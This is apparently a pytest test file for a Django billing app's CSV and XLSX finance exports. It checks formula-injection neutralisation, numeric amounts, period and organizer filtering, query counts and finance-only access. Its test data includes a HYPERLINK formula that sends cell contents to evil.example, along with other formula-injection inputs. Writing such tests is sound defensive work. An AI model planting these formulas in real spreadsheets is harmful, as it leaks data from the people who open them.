"""Finance exports per organizer and period, as CSV and XLSX (issue "finance exports").

The files are read back the way finance's tools read them (the csv module, openpyxl): what a
customer typed never becomes a formula, amounts stay numbers, the period is inclusive and only the
chosen organizer's documents are in it, and the rows are read with a fixed number of queries.
"""

import csv
import io
import itertools
from datetime import date, timedelta
from decimal import Decimal

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import load_workbook

from billing.exports import rows
from billing.exports.csv_stream import neutralise, stream_csv
from billing.exports.xlsx import write_xlsx
from billing.invoicing import issue_credit_note
from billing.payments import record_payment
from tests.factories import EditionFactory, InvoiceFactory, OrganizerFactory, RegistrationFactory

D = Decimal
START, END = date(2026, 3, 1), date(2026, 3, 31)
NASTY = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+32 9 264 11 11", "-5", "@SUM(A1:A9)"]


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+32 9 264 11 11", "'+32 9 264 11 11"), ("-5", "'-5"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("Acme NV", "Acme NV"),
    ("\n=1+1", "'\n=1+1"), ("\n", "'\n"),  # a line feed hides the formula on the second line
    ("\uff1dSUM(A1)", "'\uff1dSUM(A1)"), ("\uff0b32 9", "'\uff0b32 9"),  # full-width = and +
    ("\uff0d5", "'\uff0d5"), ("\uff20SUM(A1)", "'\uff20SUM(A1)"),  # full-width - and @
    ("a\n=1", "a\n=1"), (" =1", " =1"), ("'=1", "'=1"), ("12.50", "12.50"),
    ("-12.50", "'-12.50"),  # text that looks like a number is still text
    ("", ""), (D("-5.00"), D("-5.00")), (D("-12.50"), D("-12.50")), (-3, -3), (-1.5, -1.5),
    (7, 7), (None, None), (START, START),
])
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_negative_amounts_stay_numbers_unprefixed_in_csv_and_xlsx(tmp_path):
    """Amounts are typed as numbers (Decimal, int): in CSV they are written as they are, with a
    decimal comma and no apostrophe; in XLSX they are number cells that sum."""
    line = [D("-12.50"), D("-0.01"), -3, "-12.50", "\n=1+1"]
    header, written = read_csv(stream_csv([["a", "b", "c", "d", "e"], line]))
    assert written == ["-12,50", "-0,01", "-3", "'-12.50", "'\n=1+1"]
    path = tmp_path / "amounts.xlsx"
    with path.open("wb") as target:
        write_xlsx([["a", "b", "c", "d", "e"], line], target)
    cells = load_workbook(path).active[2]
    assert [cell.data_type for cell in cells] == ["n", "n", "n", "s", "s"]
    assert [cell.value for cell in cells] == [-12.5, -0.01, -3, "'-12.50", "'\n=1+1"]


def invoice(edition, day, name="An Peeters", **buyer):
    return InvoiceFactory(registrations=[RegistrationFactory(edition=edition)], today=day,
                          customer_name=name, **buyer)


@pytest.fixture
def edition(db):
    return EditionFactory(course__organizer=OrganizerFactory(slug="ugent"))


@pytest.fixture
def march(edition):
    """Invoices on both edges of March and just outside it, and one of another organizer."""
    invoice(edition, START - timedelta(days=1), name="before")
    inside = [invoice(edition, START, name=NASTY[0]), invoice(edition, date(2026, 3, 15),
                                                              name=NASTY[1]),
              invoice(edition, END, name=NASTY[2]), invoice(edition, END, name=NASTY[3])]
    invoice(edition, END + timedelta(days=1), name="after")
    invoice(EditionFactory(), date(2026, 3, 10), name="other organizer")
    return inside


def read_csv(chunks):
    content = b"".join(chunks).decode("utf-8")
    assert content.startswith("\ufeff")
    return list(csv.reader(io.StringIO(content[1:]), delimiter=";"))


def test_csv_reads_back_neutralised_and_within_the_period(edition, march):
    with translation.override("en"):
        table = rows.table(rows.INVOICES, edition.course.organizer, START, END)
    header, *lines = read_csv(stream_csv(table.all_rows()))
    assert header[:3] == ["Number", "Issue date", "Due date"]
    assert [line[0] for line in lines] == [inv.number for inv in march]
    assert [line[4] for line in lines] == ["'" + name for name in NASTY]
    assert lines[0][1] == "2026-03-01"
    assert lines[0][header.index("Total")] == "450,00"  # Belgian Excel: decimal comma


def test_xlsx_reads_back_with_numbers_and_no_formulas(edition, march, tmp_path):
    path = tmp_path / "invoices.xlsx"
    with path.open("wb") as target, translation.override("en"):
        write_xlsx(rows.table(rows.INVOICES, edition.course.organizer, START, END).all_rows(),
                   target, title="invoices")
    sheet = load_workbook(path).active
    values = list(sheet.iter_rows(values_only=True))
    header, lines = values[0], values[1:]
    assert [line[4] for line in lines] == ["'" + name for name in NASTY]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    total = header.index("Total")
    assert [line[total] for line in lines] == [450] * 4
    assert sheet.cell(row=2, column=total + 1).data_type == "n"
    assert sheet.cell(row=2, column=total + 1).number_format == "#,##0.00"
    assert lines[0][1].date() == START and sheet.cell(row=2, column=2).number_format == (
        "yyyy-mm-dd")
    assert sheet.cell(row=1, column=1).font.bold


def test_credit_notes_payments_and_open_balances(edition):
    organizer = edition.course.organizer
    today = timezone.localdate()
    paid, partly, overpaid, credited = (invoice(edition, today) for _ in range(4))
    record_payment(invoice=paid, amount=D("450.00"), paid_on=today, method="bank_transfer")
    record_payment(invoice=partly, amount=D("100.00"), paid_on=today, method="kmo")
    record_payment(invoice=overpaid, amount=D("500.00"), paid_on=today - timedelta(days=40),
                   method="bank_transfer")
    note = issue_credit_note(invoice=credited, net=D("450.00"), vat=D("0.00"),
                             reason="=cancelled")
    period = (today - timedelta(days=1), today)

    notes = list(rows.table(rows.CREDIT_NOTES, organizer, *period).rows)  # raw: the writers
    # neutralise (see the CSV and XLSX tests)
    assert notes == [(note.number, today, credited.number, credited.customer_name, "",
                      "=cancelled", D("450.00"), D("0.00"), D("450.00"))]
    payments = list(rows.table(rows.PAYMENTS, organizer, *period).rows)
    assert [(p[1], p[3], p[4]) for p in payments] == [
        (paid.number, D("450.00"), "bank_transfer"), (partly.number, D("100.00"), "kmo")]
    balances = {row[0]: row for row in rows.open_balances(organizer, *period, today=today).rows}
    assert set(balances) == {partly.number, overpaid.number}
    assert balances[partly.number][9:] == (D("350.00"), "partly_paid", 0)
    assert balances[overpaid.number][9:] == (D("-50.00"), "paid", 0)


def test_an_inverted_period_or_unknown_kind_is_refused(edition):
    with pytest.raises(ValueError):
        rows.table(rows.INVOICES, edition.course.organizer, END, START)
    with pytest.raises(ValueError):
        rows.table("salaries", edition.course.organizer, START, END)


def _queries(kind, organizer, day):
    with CaptureQueriesContext(connection) as queries:
        assert list(rows.table(kind, organizer, day, day).rows)
    return len(queries)


def test_rows_are_read_with_a_fixed_number_of_queries(edition):
    organizer, day = edition.course.organizer, date(2026, 5, 4)

    def add(count):
        for _ in range(count):
            made = invoice(edition, day)
            record_payment(invoice=made, amount=D("10.00"), paid_on=day, method="cash")

    add(10)
    kinds = (rows.INVOICES, rows.PAYMENTS, rows.OPEN_BALANCES)
    with_ten = {kind: _queries(kind, organizer, day) for kind in kinds}
    add(90)
    assert {kind: _queries(kind, organizer, day) for kind in kinds} == with_ten
    assert set(with_ten.values()) == {1}


def test_csv_is_streamed_chunk_by_chunk():
    endless = ((n, D(n), f"={n}") for n in itertools.count())
    first = next(stream_csv(itertools.chain([("n", "amount", "text")], endless)))
    lines = first.decode("utf-8").lstrip("\ufeff").splitlines()
    assert len(lines) == 500 and lines[1] == "0;0;'=0"


# --- the admin page ---------------------------------------------------------------------------


def _post(client, organizer, **data):
    form = {"organizer": organizer.pk, "start": START.isoformat(), "end": END.isoformat(),
            "kind": rows.INVOICES, "format": "csv", **data}
    return client.post(reverse("admin:billing_refund_exports"), form)


def test_finance_downloads_csv_streamed(client, finance_user, edition, march):
    client.force_login(finance_user)
    assert client.get(reverse("admin:billing_refund_exports")).status_code == 200
    response = _post(client, edition.course.organizer)
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Disposition"] == (
        'attachment; filename="ugent-invoices-2026-03-01-2026-03-31.csv"')
    assert len(read_csv(response.streaming_content)) == 1 + len(march)


def test_finance_downloads_xlsx(client, finance_user, edition, march):
    client.force_login(finance_user)
    response = _post(client, edition.course.organizer, kind=rows.OPEN_BALANCES, format="xlsx")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert sheet.max_row == 1 + len(march)


def test_the_form_refuses_what_it_cannot_export(client, finance_user, edition):
    client.force_login(finance_user)
    organizer = edition.course.organizer
    assert _post(client, organizer, start=END.isoformat(), end=START.isoformat()).status_code == 200
    response = _post(client, organizer, kind=rows.PAYMENTS, format="peppol")
    assert response.status_code == 200
    assert b"Peppol" in response.content


@pytest.mark.parametrize("role", ["course_admin", "exam_committee_member", "participant"])
def test_only_finance_exports(client, role, request, edition, march):
    client.force_login(request.getfixturevalue(role))
    assert client.get(reverse("admin:billing_refund_exports")).status_code in (302, 403)
    response = _post(client, edition.course.organizer)
    assert response.status_code in (302, 403)
    assert not getattr(response, "streaming", False)
